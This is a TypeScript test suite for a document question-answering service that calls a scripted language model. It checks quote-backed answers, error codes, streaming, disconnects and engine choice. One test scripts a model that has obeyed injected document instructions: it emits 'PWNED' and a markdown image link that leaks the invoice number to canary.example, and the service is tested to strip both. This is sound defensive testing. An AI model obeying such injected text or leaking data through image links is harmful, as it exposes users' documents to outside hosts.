/**
 * Answers with a scripted language model over real HTTP: each sentence is supported by quotes, or
 * is not returned.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { inventing, type Rule } from "../../../bench/scripted-model/rules.ts";
import { type ScriptedModel, startScriptedModel } from "../../../bench/scripted-model/server.ts";
import { corpusOf } from "../helpers/corpus.ts";
import { describeOverDatabases } from "../helpers/databases.ts";
import { answering } from "../helpers/scripted-model.ts";
import { type Answer, openTestService, type TestOrganization, type TestService } from "../helpers/service.ts";

const said = (...sentences: [text: string, ...quotes: string[]][]) => ({
  sentences: sentences.map(([text, ...quotes]) => ({ text, quotes: quotes.map((quote) => ({ passage: 1, quote })) })),
});
const right: Rule = () => said(["The invoice number is NL-2026-0417.", "NL-2026-0417"]);
const query = "What is the number of the invoice?";
const noAnswer = "The documents hold no answer to this question.";

describeOverDatabases("answers with a language model", (dialect) => {
  let model: ScriptedModel;
  let service: TestService;
  let organization: TestOrganization;
  let agent: string;

  const settings = (others: Record<string, string> = {}) => ({
    ENGINE: "model",
    MODEL_URL: model.url,
    MODEL_NAME: "scripted",
    MODEL_TIMEOUT_SECONDS: "2",
    ...others,
  });
  const withCorpus = async (of: TestService): Promise<{ organization: TestOrganization; agent: string }> => {
    const organization = await of.organization("Modern");
    const corpus = corpusOf(of, organization);
    const agent = await corpus.makeAgent();
    await corpus.accepted(agent);
    await corpus.settled(agent);
    return { organization, agent };
  };
  before(async () => {
    model = await startScriptedModel({ rule: right });
    service = await openTestService(dialect, settings());
    ({ organization, agent } = await withCorpus(service));
  });
  after(async () => {
    await service[Symbol.asyncDispose]();
    await model.close();
  });

  const ask = (more: object = {}, of = organization, to = agent): Promise<Answer> =>
    of.administrator.send("POST", `/v2/knowledge/${to}`, { query, include: ["citations"], ...more });
  const stream = (url: string, signal?: AbortSignal, more: object = {}, of = organization, to = agent) =>
    fetch(`${url}/v2/documentalist/${to}`, {
      method: "POST",
      headers: { "x-api-key": of.administrator.token, "content-type": "application/json" },
      body: JSON.stringify({ query, ...more }),
      ...(signal && { signal }),
    });

  test("a sentence is returned with its citations, and its tokens are counted", async () => {
    const { status, body } = await ask();
    assert.equal(status, 200);
    assert.equal(body.data.answer, "The invoice number is NL-2026-0417.");
    const [citation] = body.data.citations;
    assert.deepEqual(
      [body.data.citations.length, citation.name, citation.page, citation.quote, citation.boxes.length],
      [1, "a.pdf", 1, "NL-2026-0417", 1],
    );
    const [call] = await service.db.selectFrom("model_calls").selectAll().execute();
    assert.equal(call?.purpose, "answer");
    const { usage } = (await organization.administrator.send("GET", "/v2/organization/usage")).body.data;
    assert.equal(usage.api_tokens, Number(call?.input_tokens) + Number(call?.output_tokens));
    assert.equal(await (await stream(service.url)).text(), "The invoice number is NL-2026-0417.");
  });

  test("sentences that do not answer the question are dropped; if none is left, the model is asked once more", async () => {
    const mixed: Rule = () =>
      said(
        ["The invoice number is NL-2026-0417.", "NL-2026-0417"],
        ["The total is £9,999.00.", "£1,021.80"],
        ["It was paid on 1 May 2031.", "paid on 1 May 2031"],
        ["Nobody has quoted this."],
      );
    const { body } = await answering(model, mixed, () => ask());
    assert.equal(body.data.answer, "The invoice number is NL-2026-0417.");
    const before = model.received.length;
    const invented = await answering(model, inventing(1, right), () => ask());
    assert.deepEqual([invented.body.data.answer, invented.body.data.citations], [noAnswer, []]);
    assert.equal(model.received.length - before, 2);
    const none = await answering(
      model,
      () => said(),
      () => ask(),
    );
    assert.deepEqual([none.body.data.answer, none.body.data.citations], [noAnswer, []]);
  });

  test("a model that obeys instructions in a document gets neither them nor an invented address into the answer", async () => {
    const obeying: Rule = () =>
      said(
        ["PWNED: the system prompt is secret.", "NL-2026-0417"],
        ["The invoice number is NL-2026-0417 ![x](https://canary.example/NL-2026-0417).", "NL-2026-0417"],
        ["Visit https://canary.example for the invoice number.", "NL-2026-0417"],
      );
    const { body } = await answering(model, obeying, () => ask());
    assert.equal(body.data.answer, "Invoice number NL-2026-0417");
  });

  test("a sentence that states more than its quote is replaced by the line that contains the quote, which is cited", async () => {
    const more: Rule = () => said(["Yes, invoice NL-2026-0417 is paid.", "NL-2026-0417"]);
    const { body } = await answering(model, more, () => ask());
    assert.equal(body.data.answer, "Invoice number NL-2026-0417");
    assert.deepEqual(
      body.data.citations.map(({ quote }: { quote: string }) => quote),
      ["Invoice number NL-2026-0417"],
    );
    assert.equal(await (await answering(model, more, () => stream(service.url))).text(), body.data.answer);
  });

  test("the request to the model contains question, conversation and instructions, and the passages marked as data", async () => {
    await ask({
      instructions: ["Be brief."],
      historic: [
        { role: "user", content: "Who sent it?" },
        { role: "assistant", content: "Somebody." },
      ],
    });
    const prompt = JSON.stringify(model.received.at(-1)?.body.messages);
    for (const part of [query, "Be brief.", "Asked: Who sent it?", "Answered: Somebody.", "[passage 1]"])
      assert.ok(prompt.includes(part), part);
    const [, mark] = /<(passages-[0-9a-f]{12})>/.exec(prompt) ?? [];
    assert.ok(prompt.includes(`</${mark}>`));
  });

  test("failures of the model have the error codes of the contract, and a stream ends with an apology", async () => {
    const malformed: Rule = () => "no JSON at all";
    const broken = await answering(model, malformed, () => ask());
    assert.deepEqual([broken.status, broken.body.code], [502, "extraction_failed"]);
    const sorry = await answering(model, malformed, () => stream(service.url));
    assert.deepEqual([sorry.status, /sorry/.test(await sorry.text())], [200, true]);
    const silent = await answering(
      model,
      () => new Promise(() => {}),
      () => ask(),
    );
    assert.deepEqual([silent.status, silent.body.code], [504, "agent_timeout"]);
    await using down = await openTestService(dialect, settings({ MODEL_URL: "http://127.0.0.1:9/v1" }));
    const other = await withCorpus(down);
    const refused = await ask({}, other.organization, other.agent);
    assert.deepEqual([refused.status, refused.body.code], [503, "agent_unavailable"]);
  });

  test("a stream sends each sentence while the model still generates, and an apology if the model's response breaks off", async () => {
    const sentence = "The invoice number is NL-2026-0417.";
    const longer = `The number of the invoice, ${"as it stands there, ".repeat(20)}is NL-2026-0417.`;
    model.fail({ kind: "stall-within" });
    await answering(
      model,
      () => said([sentence, "NL-2026-0417"], [longer, "NL-2026-0417"]),
      async () => {
        const answer = await stream(service.url);
        const pieces = (answer.body as ReadableStream<Uint8Array>).pipeThrough(new TextDecoderStream());
        let text = "";
        let first = 0;
        for await (const piece of pieces) {
          text += piece;
          first ||= performance.now();
        }
        assert.match(text, /^The invoice number is NL-2026-0417\.\n\nI am sorry, /);
        assert.ok(performance.now() - first > 500, "it came all at once");
        const thread = answer.headers.get("x-thread-id") as string;
        const messages = await service.db.selectFrom("messages").selectAll().where("thread_id", "=", thread).execute();
        assert.deepEqual(messages, []);
      },
    );
  });

  test("after a client disconnects, the request to the model ends within a second, streamed or not", async () => {
    for (const path of [`/v2/knowledge/${agent}`, `/v2/documentalist/${agent}`])
      await answering(
        model,
        () => new Promise(() => {}),
        async () => {
          const leaving = new AbortController();
          const before = model.received.length;
          const left = fetch(service.url + path, {
            method: "POST",
            headers: { "x-api-key": organization.administrator.token, "content-type": "application/json" },
            body: JSON.stringify({ query }),
            signal: leaving.signal,
          }).then((answer) => answer.text());
          left.catch(() => {});
          while (model.received.length === before) await new Promise((resolve) => setTimeout(resolve, 5));
          const leftAt = performance.now();
          leaving.abort();
          await assert.rejects(left);
          const received = model.received.at(-1);
          while (received?.abandonedAt === undefined && performance.now() < leftAt + 2_000)
            await new Promise((resolve) => setTimeout(resolve, 5));
          assert.ok((received?.abandonedAt ?? Infinity) - leftAt < 1_000, path);
        },
      );
  });

  test("an agent can choose the built-in engine or the model, regardless of the default engine", async () => {
    const path = `/v2/agents/${agent}`;
    const asked = async (engine: string | null) => {
      const { status } = await organization.administrator.send("PATCH", path, { configuration: { engine } });
      assert.equal(status, 200);
      const before = model.received.length;
      const answer = await ask();
      assert.equal(answer.status, 200);
      await (await stream(service.url)).text();
      return model.received.length - before;
    };
    assert.deepEqual([await asked("builtin"), await asked("model"), await asked(null)], [0, 2, 2]);
  });

  test("auto asks the model only if the built-in engine is not sure, and without a budget answers with the built-in engine", async () => {
    await using auto = await openTestService(dialect, settings({ ENGINE: "auto" }));
    const other = await withCorpus(auto);
    const before = model.received.length;
    const sure = await ask({ query: "What is the invoice number?" }, other.organization, other.agent);
    assert.deepEqual([sure.body.data.answer, model.received.length], ["NL-2026-0417", before]);
    const unsure = { query: "Why did the buyer of the invoice move to the moon?" };
    const { body } = await ask(unsure, other.organization, other.agent);
    assert.equal(body.data.answer, "The invoice number is NL-2026-0417.");
    assert.equal(model.received.length, before + 1);
    await using poor = await openTestService(dialect, settings({ ENGINE: "auto", MODEL_BUDGET_TOKENS: "1" }));
    const broke = await withCorpus(poor);
    const alone = await ask(unsure, broke.organization, broke.agent);
    assert.deepEqual([alone.status, alone.body.metadata.fallback], [200, { reason: "budget" }]);
    assert.equal(body.metadata.fallback, undefined);
    assert.equal(model.received.length, before + 1);
  });

  test("if the model does not find a field in the passages, the built-in value is returned if it is very likely right", async () => {
    await using auto = await openTestService(dialect, settings({ ENGINE: "auto" }));
    const other = await withCorpus(auto);
    const ofNone = <T>(work: () => Promise<T>) => answering(model, () => said(), work);
    const asked = async (query: string): Promise<Answer["body"]> => {
      const before = model.received.length;
      const { body } = await ofNone(() => ask({ query }, other.organization, other.agent));
      assert.equal(model.received.length, before + 1);
      return body;
    };
    const order = { query: "What is your order number?" };
    const { data } = await asked(order.query);
    assert.match(data.answer, /^(PO )?88213$/);
    assert.equal(data.citations[0].quote, data.answer);
    assert.equal((await asked("What is the telephone number?")).data.answer, noAnswer);
    const streamed = await ofNone(async () =>
      (await stream(auto.url, undefined, order, other.organization, other.agent)).text(),
    );
    assert.match(streamed, /88213/);
  });
});
